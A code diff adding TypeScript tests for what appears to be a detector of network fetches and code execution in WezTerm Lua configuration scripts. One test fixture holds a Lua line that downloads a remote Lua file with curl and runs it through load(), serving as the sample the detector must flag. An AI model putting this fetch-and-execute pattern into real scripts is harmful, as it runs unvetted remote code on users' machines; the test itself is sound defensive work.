@@ -52,3 +52,23 @@ describe('Lua process outputs', () => {
     expect(ofKind(local, 'execute')).toEqual([]);
   });
 });
+
+describe("WezTerm's run_child_process", () => {
+  const wez = (code: string) => factsOf('scripting', `local wezterm = require 'wezterm'\n${code}`);
+
+  it('called with a table and no parentheses: the second value it returns is the body', async () => {
+    const f = await wez(
+      "local ok, body = wezterm.run_child_process { 'curl', '-fsSL', 'https://themes.term-cdn.net/t.lua' }\nlocal chunk = load(body)\nif chunk then chunk() end\n",
+    );
+    expect(ofKind(f, 'fetch')).toHaveLength(1);
+    expect(ofKind(f, 'execute')).toMatchObject([{ via: 'load' }]);
+  });
+
+  it('the success flag is not the body, and a local program is not a download', async () => {
+    const f = await wez(
+      "local ok, out = wezterm.run_child_process({ 'git', 'rev-parse', 'HEAD' })\nlocal chunk = load(ok and 'return 1' or '')\nwezterm.log_info(out)\n",
+    );
+    expect(ofKind(f, 'fetch')).toEqual([]);
+    expect(ofKind(f, 'execute').filter((b) => b.code.taints.includes('download'))).toEqual([]);
+  });
+});
